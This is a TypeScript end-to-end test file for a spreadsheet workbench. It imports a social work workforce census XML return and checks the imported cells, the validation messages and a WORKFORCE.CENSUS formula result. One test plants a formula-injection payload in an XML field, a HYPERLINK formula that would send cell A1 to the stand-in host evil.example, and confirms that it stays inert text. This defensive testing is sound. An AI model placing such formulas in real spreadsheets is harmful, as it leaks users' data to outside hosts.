/**
 * A census return imported in the workbench as a user does it: the pane's "Import census
 * return" file picker, the workers on a new sheet, the checks in the pane, and
 * =WORKFORCE.CENSUS typed over the written sheet, matching counts worked out by hand.
 */
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { CENSUS_SHEET_COLUMNS } from "../../src/taskpane/censusSheet";
import { columnLetters } from "../../src/workbook/a1";
import {
  eventually,
  freshWorkbenchPerTest,
  repoRoot,
  screenshotPath,
  type Workbench,
} from "./support/workbench";

let wb: Workbench;
freshWorkbenchPerTest((opened) => {
  wb = opened;
});

const SAMPLE = path.join(repoRoot, "../shared/data/csww-samples/social_work_workforce_2022.xml");
const SHEET = "Census 2022 LA316";
const column = (header: string) =>
  columnLetters(CENSUS_SHEET_COLUMNS.findIndex((c) => c.header === header));

/** A cell's text after the Name Box has brought it into view (the grid draws what is visible). */
async function shown(address: string): Promise<string> {
  await wb.goTo(address);
  return wb.cellText(address);
}

async function importFile(file: string) {
  await wb.pane.getByRole("tab", { name: "Data" }).click();
  await wb.pane.getByLabel("Census return file").setInputFiles(file);
}

describe("census return in the workbench", () => {
  it("imports the sample onto a new sheet, lists its checks, and CENSUS over it matches the hand count", async () => {
    const sheetsBefore = await wb.page.getByRole("tablist", { name: "Sheet tabs" }).innerText();
    await importFile(SAMPLE);
    await wb.pane
      .getByText(/30 workers from social_work_workforce_2022\.xml written to the new sheet/)
      .waitFor();
    // The new sheet is brought to the front.
    await expect(
      wb.page
        .getByRole("tablist", { name: "Sheet tabs" })
        .getByRole("tab", { name: SHEET, exact: true })
        .getAttribute("aria-selected"),
    ).resolves.toBe("true");
    // The sheets that were there are still there; the census has a new one.
    for (const name of sheetsBefore.split("\n").filter((n) => n.trim() !== "" && n !== "+")) {
      await expect(
        wb.page
          .getByRole("tablist", { name: "Sheet tabs" })
          .getByRole("tab", { name, exact: true })
          .count(),
      ).resolves.toBe(1);
    }
    await wb.openSheet(SHEET);
    expect(await wb.cellText("A6")).toBe("AgencyWorker");
    expect(await wb.cellText(`${column("SWENo")}7`)).toBe("Oy2054309383");
    expect(await wb.cellText(`${column("Ethnicity (label)")}7`)).toBe("Refused");
    expect(await wb.cellText("B1")).toBe("2022-09-30");

    // The checks, in the pane; selecting one selects its worker's row in the grid.
    const checks = wb.pane.getByRole("list", { name: /Census checks/ });
    const first = checks.getByRole("button").first();
    await expect(first.innerText()).resolves.toMatch(
      /^Error Row 7 \(worker 1\): ContractWeeks "288\.7"/,
    );
    await checks
      .getByRole("button", { name: /row 10: RoleStartDate "2023-03-28" is after/ })
      .click();
    await expect(wb.nameBox.inputValue()).resolves.toBe("A10:AJ10");
    await wb.page.screenshot({ path: screenshotPath("census-import.png") });

    // By hand (test/core/census/samples.test.ts lists the workers): 8 in post with 3.406188
    // FTE, 13 agency with 6.811865 FTE, 639 cases, vacancies 99.68.
    await wb.openSheet(SHEET);
    await wb.enter("A40", "=WORKFORCE.CENSUS(A6:AJ36, A3:C4, B1)");
    expect(await shown("A40")).toBe("time_period");
    expect(await shown("B40")).toBe("inpost_fte");
    expect(await shown("A41")).toBe("2022");
    expect(Number(await shown("B41"))).toBeCloseTo(3.406188, 6);
    expect(await shown("C41")).toBe("8");
    expect(Number(await shown("J41"))).toBeCloseTo(6.811865, 6);
    expect(await shown("K41")).toBe("13");
    expect(await shown("P41")).toBe("99.68");
    expect(Number(await shown("Q41"))).toBeCloseTo(99.68 / (99.68 + 3.406188), 8);
    expect(await shown("T41")).toBe("639");
    expect(Number(await shown("S41"))).toBeCloseTo(6.273362, 6);
    expect(await shown("A42")).toMatch(/^Checks: \d+ errors and \d+ warnings on \d+ of 30 workers/);
    await wb.page.screenshot({ path: screenshotPath("census-formula.png") });
  });

  it("keeps formula-looking text from a return as text, and refuses a malformed file", async () => {
    const dir = mkdtempSync(path.join(tmpdir(), "census-e2e-"));
    const hostile = readFileSync(SAMPLE, "utf8").replace(
      "<QualInst>Institution Name</QualInst>",
      '<QualInst>=HYPERLINK("http://evil.example/?"&amp;A1,"x")</QualInst>',
    );
    const hostileFile = path.join(dir, "hostile.xml");
    writeFileSync(hostileFile, hostile);
    await importFile(hostileFile);
    await wb.pane.getByText(/30 workers from hostile\.xml written/).waitFor();
    await wb.openSheet(SHEET);
    const cell = `${column("QualInst")}7`;
    expect(await wb.cellText(cell)).toBe('=HYPERLINK("http://evil.example/?"&A1,"x")');

    const broken = path.join(dir, "broken.xml");
    writeFileSync(broken, "<Message><CSWWWorker><SWENo>SW1</SWENo>");
    await importFile(broken);
    await wb.pane.getByText(/broken\.xml was not imported/).waitFor();
    await eventually(
      () => wb.pane.getByText(/not well-formed XML/).count(),
      (n) => n > 0,
    );
  });
});
